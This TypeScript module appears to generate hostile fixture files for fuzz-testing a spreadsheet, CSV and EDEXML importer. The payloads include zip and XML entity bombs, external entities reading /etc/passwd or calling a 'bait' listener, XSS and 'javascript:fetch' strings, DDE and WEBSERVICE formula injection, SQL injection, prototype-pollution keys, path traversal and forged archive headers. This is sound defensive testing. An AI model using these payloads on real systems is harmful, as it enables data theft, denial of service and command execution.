/**
 * Files that were made to hurt, generated: the same on every machine, several hundred kilobytes at most in all but a few. Whatever address stands
 * in them (a document type, an entity, a link, a formula, a schema) is the bait: somebody listens there and counts.
 */
import { gzipSync, zipSync } from 'fflate';
import { header, inlineCell, rawWorkbook, utf8 } from './files.ts';

export type Chance = () => number;
/** mulberry32 */
export const chance =
  (seed: number): Chance =>
  () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
export interface HostileKind {
  readonly name: string;
  readonly make: (random: Chance, bait: string) => Uint8Array;
  /** how many of it are generated */
  readonly times: number;
}

const zeros = (size: number) => new Uint8Array(size);
const upTo = (random: Chance, most: number) => Math.floor(random() * most);
const escaped = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const row = (n: number, ...cells: string[]) =>
  `<row r="${n}">${cells.map((text, i) => inlineCell(`${String.fromCharCode(65 + i)}${n}`, text)).join('')}</row>`;
const anna = row(2, 'Anna', 'ib');

/** What people who try things write into a cell. */
export const nasty = (bait: string): readonly string[] => [
  '<script>alert(1)</script>',
  `<img src=x onerror="location='${bait}'">`,
  '"><svg/onload=alert(1)>',
  `=HYPERLINK("${bait}")`,
  `=cmd|' /C calc'!A0`,
  '@SUM(1)',
  '+1+1',
  '-1',
  '\u202egnp.exe',
  'An\u200bna\u2066\ufeff',
  "'; drop table people; --",
  '&amp;#60;&lt;script&gt;',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  `javascript:fetch('${bait}')`,
  '__proto__',
  'constructor',
  '\ud83d\ude00'.repeat(60),
  'z\u0351\u034a\u0352'.repeat(40),
  `${'naam '.repeat(60)}`,
  '../../etc/passwd',
  'a\tb\nc',
];
const one = (random: Chance, bait: string) => nasty(bait)[upTo(random, nasty(bait).length)]!;
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
const edex = (inside: string, before = '') => `${before}<EDEX><school><brincode>12AB</brincode></school>${inside}</EDEX>`;
const teacher = (name: string, more = '', key = '1') =>
  `<leerkrachten><leerkracht key="${escaped(key)}"><achternaam>${name}</achternaam><rol>LRK</rol>${more}</leerkracht></leerkrachten>`;
const utf16 = (text: string, big = false) => {
  const bytes = new Uint8Array(text.length * 2);
  for (let i = 0; i < text.length; i += 1) {
    const code = text.charCodeAt(i);
    bytes[2 * i + (big ? 1 : 0)] = code & 0xff;
    bytes[2 * i + (big ? 0 : 1)] = code >> 8;
  }
  return bytes;
};
/** Where a pattern of bytes begins, from the end. */
const lastOf = (bytes: Uint8Array, pattern: readonly number[]) => {
  for (let at = bytes.length - pattern.length; at >= 0; at -= 1) if (pattern.every((b, i) => bytes[at + i] === b)) return at;
  throw new Error('no such bytes');
};
/** An archive whose directory says something else of its first part than is true. */
const forged = (offset: number, value: number, width: 2 | 4) => {
  const bytes = rawWorkbook(header + anna);
  let at = lastOf(bytes, [0x50, 0x4b, 5, 6]);
  at = new DataView(bytes.buffer, bytes.byteOffset).getUint32(at + 16, true);
  const view = new DataView(bytes.buffer, bytes.byteOffset);
  if (width === 2) view.setUint16(at + offset, value, true);
  else view.setUint32(at + offset, value, true);
  return bytes;
};

const kinds: readonly [name: string, times: number, make: HostileKind['make']][] = [
  // ---- workbooks
  ['a bomb in the sheet', 3, (r) => rawWorkbook(header + ' '.repeat(3_000_000 + upTo(r, 1e6)))],
  ['a bomb beside the sheet', 2, (r) => rawWorkbook(header + anna, { [`xl/media/${upTo(r, 1e6)}.png`]: zeros(4_000_000) })],
  [
    'an archive in an archive',
    4,
    (r) => rawWorkbook(header + anna, { [`xl/embeddings/${upTo(r, 99)}.zip`]: zipSync({ a: zeros(1e6) }) }),
  ],
  [
    'very many parts',
    2,
    (r) => rawWorkbook(header, Object.fromEntries(Array.from({ length: 400 + upTo(r, 600) }, (_, i) => [`p${i}`, zeros(0)]))),
  ],
  ['entities', 5, (r) => rawWorkbook(header, {}, `<!DOCTYPE x [<!ENTITY a "${'b'.repeat(upTo(r, 50))}"><!ENTITY c "&a;&a;">]>`)],
  ['an external entity', 5, (_, bait) => rawWorkbook(header, {}, `<!DOCTYPE x SYSTEM "${bait}/x.dtd">`)],
  [
    'an external entity in UTF-16',
    3,
    (r, bait) =>
      rawWorkbook(header, {
        'xl/worksheets/sheet1.xml': utf16(
          `\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a SYSTEM "${bait}/${upTo(r, 9)}">]><worksheet/>`,
        ),
      }),
  ],
  [
    'a sheet that is elsewhere',
    4,
    (r, bait) =>
      rawWorkbook(header + anna, {
        'xl/_rels/workbook.xml.rels': utf8(
          `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="${bait}/${upTo(r, 9)}.xml" TargetMode="External"/></Relationships>`,
        ),
      }),
  ],
  [
    'links, queries and pictures',
    5,
    (r, bait) =>
      rawWorkbook(
        `${header}${row(2, 'Anna', 'ib')}</sheetData><hyperlinks><hyperlink ref="A2" r:id="rId9"/></hyperlinks><sheetData>`,
        {
          'xl/connections.xml': utf8(`<connections><connection id="1" url="${bait}/${upTo(r, 9)}"/></connections>`),
          'xl/externalLinks/externalLink1.xml': utf8(
            `<externalLink><ddeLink ddeService="cmd" ddeTopic="${bait}"/></externalLink>`,
          ),
          'xl/vbaProject.bin': zeros(500),
          'xl/worksheets/_rels/sheet1.xml.rels': utf8(
            `<Relationships><Relationship Id="rId9" Target="${bait}" TargetMode="External"/></Relationships>`,
          ),
        },
      ),
  ],
  [
    'a hundred thousand columns',
    4,
    (r) => rawWorkbook(header + `<row r="2">${inlineCell(`AAA${String.fromCharCode(65 + upTo(r, 26))}2`, 'x')}</row>`),
  ],
  ['a hundred thousand cells in a row', 1, () => rawWorkbook(header + `<row r="2">${'<c><v>1</v></c>'.repeat(100_000)}</row>`)],
  ['a row a billion down', 4, (r) => rawWorkbook(header + row(1_000_000_000 + upTo(r, 100), 'x'))],
  [
    'a row that is no number',
    3,
    (r) => rawWorkbook(header + `<row r="${['-1', 'NaN', '1e9', '0'][upTo(r, 4)]}">${inlineCell('A-1', 'x')}</row>`),
  ],
  [
    'a column without an end',
    3,
    (r) => rawWorkbook(header + `<row r="2">${inlineCell(`${'Z'.repeat(5 + upTo(r, 20))}2`, 'x')}</row>`),
  ],
  [
    'places in other quotes, with spaces, behind a bracket',
    4,
    (r) =>
      rawWorkbook(
        header +
          [
            `<row r='1e9'/>`,
            `<row r = "99999999"/>`,
            `<row x=">" r="1e8"/>`,
            `<x-y:row xmlns:x-y="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="1e8"/>`,
          ][upTo(r, 4)]!,
      ),
  ],
  ['rows and no cells', 1, () => rawWorkbook(header + '<row/>'.repeat(120_000))],
  ['a long text in a cell', 4, (r) => rawWorkbook(header + row(2, 'x'.repeat(3000 + upTo(r, 3000)), 'ib'))],
  [
    'one long text in very many cells',
    1,
    () => {
      const cells = (n: number) =>
        Array.from({ length: 26 }, (_, i) => `<c r="${String.fromCharCode(65 + i)}${n}" t="s"><v>0</v></c>`).join('');
      return rawWorkbook(header + Array.from({ length: 900 }, (_, i) => `<row r="${i + 2}">${cells(i + 2)}</row>`).join(''), {
        'xl/sharedStrings.xml': utf8(
          `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>${'y'.repeat(30_000)}</t></si></sst>`,
        ),
        'xl/_rels/workbook.xml.rels': utf8(
          `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${['worksheet:worksheets/sheet1', 'sharedStrings:sharedStrings'].map((of, i) => `<Relationship Id="rId${i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${of.split(':')[0]}" Target="${of.split(':')[1]}.xml"/>`).join('')}</Relationships>`,
        ),
      });
    },
  ],
  [
    'texts that are not there',
    4,
    (r) =>
      rawWorkbook(
        header + `<row r="2"><c r="A2" t="s"><v>${['99', '-1', '1e3', 'x'][upTo(r, 4)]}</v></c>${inlineCell('B2', 'ib')}</row>`,
      ),
  ],
  [
    'formulas with a saved value',
    6,
    (r, bait) =>
      rawWorkbook(
        header +
          `<row r="2"><c r="A2" t="str"><f>WEBSERVICE("${bait}/${upTo(r, 99)}")</f><v>${escaped(one(r, bait)).slice(0, 60)}</v></c>${inlineCell('B2', 'ib')}</row>`,
      ),
  ],
  [
    'scripts in a workbook',
    12,
    (r, bait) => rawWorkbook(header + row(2, escaped(one(r, bait)), 'ib') + row(3, 'Bram', escaped(one(r, bait)))),
  ],
  [
    'scripts in the heads of a workbook',
    6,
    (r, bait) =>
      rawWorkbook(row(1, 'Naam', 'Functie', escaped(one(r, bait)), escaped(one(r, bait))) + row(2, 'Anna', 'ib', 'x', 'y')),
  ],
  [
    'numbers, dates and errors for names',
    5,
    (r) =>
      rawWorkbook(
        header +
          `<row r="2"><c r="A2"><v>${['1e308', '-1e308', '99999999', 'NaN', '1e400'][upTo(r, 5)]}</v></c>${inlineCell('B2', 'ib')}</row><row r="3"><c r="A3" t="e"><v>#REF!</v></c><c r="B3" t="b"><v>1</v></c></row>`,
      ),
  ],
  [
    'paths that climb',
    3,
    (r) => rawWorkbook(header + anna, { [`../../${upTo(r, 9)}.xml`]: utf8('x'), '/etc/passwd': utf8('x') }),
  ],
  ['a cut-off archive', 6, (r) => rawWorkbook(header).slice(0, 100 + upTo(r, 500))],
  [
    'a flipped byte',
    12,
    (r) => {
      const bytes = rawWorkbook(header + anna);
      bytes[upTo(r, bytes.length)]! ^= 0xff;
      return bytes;
    },
  ],
  ['a part that lies about its size', 3, (r) => forged(24, [1, 0x7fffffff, 0xffffffff][upTo(r, 3)]!, 4)],
  ['a part that is encrypted', 1, () => forged(8, 1, 2)],
  ['a part packed in an unknown way', 2, (r) => forged(10, 9 + upTo(r, 80), 2)],
  ['a part that is beyond the end', 2, (r) => forged(42, 1e6 + upTo(r, 1e6), 4)],
  ['an archive of something else', 3, (r) => zipSync({ [`word/${upTo(r, 9)}.xml`]: utf8('<a/>') })],
  ['an old Excel file', 1, () => Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...zeros(600)])],
  // ---- texts
  [
    'chance bytes after an archive’s first two',
    3,
    (r) => Uint8Array.from({ length: 2000 }, (_, i) => (i === 0 ? 0x50 : i === 1 ? 0x4b : upTo(r, 256))),
  ],
  ['chance bytes', 6, (r) => Uint8Array.from({ length: 2000 }, () => upTo(r, 256))],
  [
    'another kind of file',
    6,
    (r) =>
      utf8(
        ['%PDF-1.7\n1 0 obj', '{"a":[1]}', '{\\rtf1\\ansi', '<html><script>alert(1)</script></html>', 'MZ\u0090', '#!/bin/sh'][
          upTo(r, 6)
        ]!,
      ),
  ],
  ['a packed text', 2, (r) => gzipSync(utf8(`naam,functie\nAnna${upTo(r, 9)},ib\n`))],
  ['an open quote', 3, (r) => utf8(`naam,functie\n"Anna,ib\n${'x,'.repeat(upTo(r, 1000))}`)],
  ['very many columns', 2, (r) => utf8(`${'a,'.repeat(101 + upTo(r, 100_000))}\n`)],
  ['very many rows', 1, (r) => utf8(`naam,functie\n${'a,b\n'.repeat(20_001 + upTo(r, 1000))}`)],
  [
    'scripts in names',
    22,
    (r, bait) => utf8(`naam,functie,groep\n${quoted(one(r, bait))},ib,${quoted(one(r, bait))}\nBram,lkr,5\n`),
  ],
  [
    'scripts everywhere',
    6,
    (r, bait) => utf8(`naam,functie,mail\n${quoted(one(r, bait))},${quoted(one(r, bait))},${quoted(one(r, bait))}\n`),
  ],
  ['scripts in the heads', 8, (r, bait) => utf8(`naam,functie,${quoted(one(r, bait))},${quoted(one(r, bait))}\nAnna,ib,x,y\n`)],
  [
    'heads that every object has',
    3,
    (r) => utf8(`naam,functie,__proto__,constructor,toString\nAnna ${upTo(r, 99)},ib,polluted,x,y\n`),
  ],
  [
    'heads that are all the same',
    2,
    (r) => utf8(`naam,${'naam,'.repeat(20)}functie\nAnna ${upTo(r, 99)},${'x,'.repeat(20)}ib\n`),
  ],
  ['a word on the separator', 2, (r) => utf8(`sep=;\nnaam;functie\nAnna ${upTo(r, 99)};ib\n`)],
  ['UTF-16 that says nothing of it', 2, () => utf16('naam;functie\nAnna;ib\n')],
  ['UTF-16 the other way round', 2, (r) => utf16(`\ufeffnaam;functie\nAnna${upTo(r, 9)};ib\n`, true)],
  ['half of UTF-16', 2, (r) => utf16(`\ufeffnaam;functie\nAnna${upTo(r, 9)};ib\n`).slice(0, -1)],
  [
    'bytes that are no UTF-8',
    4,
    (r) => Uint8Array.from([...utf8('naam;functie\nAn'), 0xc0, 0xaf, 0xed, 0xa0, 0x80, 128 + upTo(r, 128), ...utf8('na;ib\n')]),
  ],
  ['two marks and a zero', 2, (r) => utf8(`\ufeff\ufeffnaam;functie\nAn\u0000na${upTo(r, 9)};ib\n`)],
  ['ends of lines of every kind', 3, (r) => utf8(`naam;functie\r\nAnna ${upTo(r, 99)};ib\r\rBram;lkr\n\u2028Cor;lkr\u0085`)],
  ['citizen numbers under another head', 2, () => utf8('nr;naam;functie\n111222333;Anna;ib\n123456782;Bram;lkr\n')],
  ['nothing', 1, () => zeros(0)],
  ['only white space', 1, () => utf8(' \n\t\n')],
  ['more than ten megabytes', 1, () => zeros(11 * 1_048_576)],
  // ---- EDEXML
  [
    'an XML bomb',
    4,
    (r) => utf8(edex('&b;', `<!DOCTYPE EDEX [<!ENTITY a "${'a'.repeat(10 + upTo(r, 90))}"><!ENTITY b "&a;&a;">]>`)),
  ],
  ['an XML bomb in UTF-16', 2, () => utf16(`\ufeff${edex('&a;', '<!DOCTYPE EDEX [<!ENTITY a "aa">]>')}`)],
  [
    'a file of the server as an entity',
    4,
    (_, bait) =>
      utf8(
        edex(teacher('&a;'), `<!DOCTYPE EDEX [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "${bait}/e.dtd"> %b;]>`),
      ),
  ],
  [
    'schemas, styles and parts that are elsewhere',
    5,
    (r, bait) =>
      utf8(
        `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${bait}/s.xsl"?><EDEX xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${bait}/e.xsd" xmlns:xi="http://www.w3.org/2001/XInclude"><school><brincode>12AB</brincode></school><xi:include href="${bait}/${upTo(r, 9)}.xml"/>${teacher('Bos')}</EDEX>`,
      ),
  ],
  ['XML without an end', 3, (r) => utf8(`<EDEX><groepen>${'<groep key="1">'.repeat(10 + upTo(r, 100))}`)],
  ['XML without a bottom', 2, (r) => utf8(`<EDEX>${'<a>'.repeat(5000 + upTo(r, 5000))}`)],
  [
    'XML in a wrong encoding',
    3,
    (r) =>
      Uint8Array.from([
        ...utf8('<EDEX><groepen><groep key="1"><naam>'),
        0xff,
        0xfe,
        upTo(r, 128) + 128,
        ...utf8('</naam></groep></groepen></EDEX>'),
      ]),
  ],
  ['scripts in an EDEXML name', 10, (r, bait) => utf8(edex(teacher(escaped(one(r, bait)).replaceAll('\u0000', ''))))],
  [
    'scripts in an EDEXML group',
    5,
    (r, bait) =>
      utf8(
        edex(
          `<groepen><groep key="g"><naam>${escaped(one(r, bait)).slice(0, 300)}</naam></groep></groepen>${teacher('Bos', '<groepen><groep key="g"/></groepen>')}`,
        ),
      ),
  ],
  ['markup as CDATA', 3, (r, bait) => utf8(edex(teacher(`<![CDATA[${one(r, bait).replaceAll(']]>', '')}]]>`)))],
  ['keys that every object has', 3, (r) => utf8(edex(teacher('Bos', '', ['__proto__', 'constructor', ' '][upTo(r, 3)])))],
  [
    'very many attributes',
    1,
    () =>
      utf8(
        edex(
          `<groepen><groep key="g" ${Array.from({ length: 20_000 }, (_, i) => `a${i}="x"`).join(' ')}><naam>5</naam></groep></groepen>`,
        ),
      ),
  ],
  ['a name without an end', 2, (r) => utf8(edex(teacher('x'.repeat(200_000 + upTo(r, 100_000)))))],
  [
    'more teachers than a country has',
    1,
    () => utf8(edex(`<leerkrachten>${'<leerkracht key="1"><roepnaam>x</roepnaam></leerkracht>'.repeat(20_001)}</leerkrachten>`)),
  ],
];

export const hostileKinds: readonly HostileKind[] = kinds.map(([name, times, make]) => ({ name, times, make }));

/** All of them, one after another. */
export function* hostileFiles(seed: number, bait: string): Generator<{ readonly name: string; readonly bytes: Uint8Array }> {
  const random = chance(seed);
  for (const { name, times, make } of hostileKinds)
    for (let i = 0; i < times; i += 1) yield { name: `${name} ${i + 1}`, bytes: make(random, bait) };
}
